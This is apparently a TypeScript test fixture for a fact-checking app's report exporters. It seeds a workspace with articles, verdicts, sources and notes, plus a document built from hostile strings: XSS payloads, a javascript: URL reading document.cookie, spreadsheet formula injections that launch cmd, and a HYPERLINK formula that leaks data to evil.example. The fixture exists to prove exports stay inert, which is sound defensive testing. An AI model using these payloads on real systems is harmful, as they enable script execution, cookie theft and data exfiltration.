/**
 * A realistic workspace for report tests: news articles written for the tests (so reports are tested
 * on a fresh clone without ../shared) imported through the real operations, verdicts with rationales, sources with every stance, notes and an
 * attachment — plus a document and evidence made of hostile payloads.
 */
import { randomUUID } from 'node:crypto';
import { call } from '../../../electron/core/dispatch';
import type { CoreContext } from '../../../electron/core/context';
import { BUILT_ARTICLES } from '../../helpers/built-articles';
import { createTestContext } from '../../helpers/workspace';

/** Strings that must stay inert in every export format. */
export const HOSTILE = {
  script: '<script>alert("xss")</script>',
  img: '<img src=x onerror=alert(1)>',
  jsUrl: 'javascript:alert(document.cookie)',
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  sum: '@SUM(1+1)*cmd|" /C calc"!A0',
  plusCmd: '+cmd|" /C calc"!A0',
  minus: '-1+1',
  tab: '\t=1+2',
  cr: '\r=1+2',
  markdownLink: '[click me](javascript:alert(1)) and ![x](https://evil.example/track.png)',
  markdownHeading: '# Not a heading\n> not a quote\n- not a list',
  htmlComment: '<!-- comment --><style>body{display:none}</style>',
  attrBreak: '" onmouseover="alert(1)',
  rtl: 'مرحبا بالعالم \u202Eevil\u202C טקסט בעברית',
  cyrillic: 'Правительство заявило, что инфляция составила 7,4%',
  emoji: 'Claim 🚀🔥 with emoji 👩🏽‍💻',
  long: 'Very long claim text. '.repeat(600),
} as const;

export interface ReportFixture {
  ctx: CoreContext & { dir: string; file: string };
  documentIds: string[];
  hostileDocumentId: string;
  hostileClaimIds: string[];
  attachmentSha256: string;
  /** A claim whose verdict was set by "Ben" (the fixture's second checker). */
  decidedClaimId: string;
}

export async function buildReportFixture(options: { articles?: number } = {}): Promise<ReportFixture> {
  const ctx = createTestContext('Ann Analyst');
  const run = <N extends Parameters<typeof call>[1]>(name: N, input: unknown) => call(ctx, name, input);
  const documentIds: string[] = [];
  for (const article of BUILT_ARTICLES.slice(0, options.articles ?? 2)) {
    const r = await run('documents.createFromText', {
      title: article.title,
      text: article.text,
      origin: `https://news.example.org/${encodeURIComponent(article.title.replace(/ /g, '_'))}`,
    });
    documentIds.push(r.document.id);
  }
  const { items } = await run('claims.list', { documentId: documentIds[0], limit: 50 });
  const [first, second, third] = items;
  await run('claims.setVerdict', { ids: [first!.id], verdict: 'sourced', rationale: 'Confirmed by the agency’s own statement.' });
  await run('sources.add', {
    claimId: first!.id,
    url: 'https://example.org/agency/statement',
    title: 'Agency statement',
    publisher: 'Example Agency',
    publishedAt: '2024-05-01',
    excerpt: 'The agency confirmed the figures.',
    stance: 'supports',
  });
  await run('notes.add', { claimId: first!.id, text: 'Called the press office; they confirmed by phone.' });
  const attachment = await run('attachments.add', {
    claimId: first!.id,
    name: 'statement.txt',
    mime: 'text/plain',
    base64: Buffer.from('Official statement text\n').toString('base64'),
  });
  ctx.identity.setAuthor('Ben Editor');
  await run('claims.setVerdict', {
    ids: [second!.id],
    verdict: 'disputed',
    rationale: 'The census gives a lower figure.\n\nSee table 4.',
  });
  await run('sources.add', {
    claimId: second!.id,
    url: 'https://example.org/census/table-4',
    title: 'Census table 4',
    excerpt: 'Population: 1,204',
    stance: 'contradicts',
  });
  await run('sources.add', { claimId: second!.id, title: 'Background briefing', excerpt: 'Context only.', stance: 'context' });
  ctx.identity.setAuthor('Ann Analyst');
  void third;

  const hostileText = Object.values(HOSTILE).join('\n\n');
  const hostile = await run('documents.createFromText', {
    title: `${HOSTILE.script} ${HOSTILE.attrBreak}`,
    text: hostileText,
    origin: HOSTILE.jsUrl,
  });
  const hostileClaimIds: string[] = [];
  for (const [kind, text] of Object.entries(HOSTILE)) {
    if (!text.trim()) continue;
    const claim = await run('claims.add', {
      documentId: hostile.document.id,
      text,
      claimant: kind === 'script' ? HOSTILE.img : HOSTILE.hyperlink,
    });
    hostileClaimIds.push(claim.id);
  }
  await run('claims.setVerdict', {
    ids: hostileClaimIds.slice(0, 3),
    verdict: 'disputed',
    rationale: `${HOSTILE.script}\n${HOSTILE.markdownLink}`,
  });
  await run('notes.add', { claimId: hostileClaimIds[0], text: `${HOSTILE.img} ${HOSTILE.sum}` });
  // A teammate's file can hold what our own inputs refuse (a javascript: source URL): write it the
  // way a merge would, through the recorder, to prove the renderers do not trust the store.
  ctx.workspace.recorder.action('Hostile teammate source', (w) =>
    w.create('source', randomUUID(), {
      claimId: hostileClaimIds[0],
      url: HOSTILE.jsUrl,
      title: HOSTILE.markdownLink,
      publisher: HOSTILE.hyperlink,
      excerpt: HOSTILE.script,
      stance: 'supports',
    }),
  );
  return {
    ctx,
    documentIds,
    hostileDocumentId: hostile.document.id,
    hostileClaimIds,
    attachmentSha256: attachment.sha256,
    decidedClaimId: second!.id,
  };
}
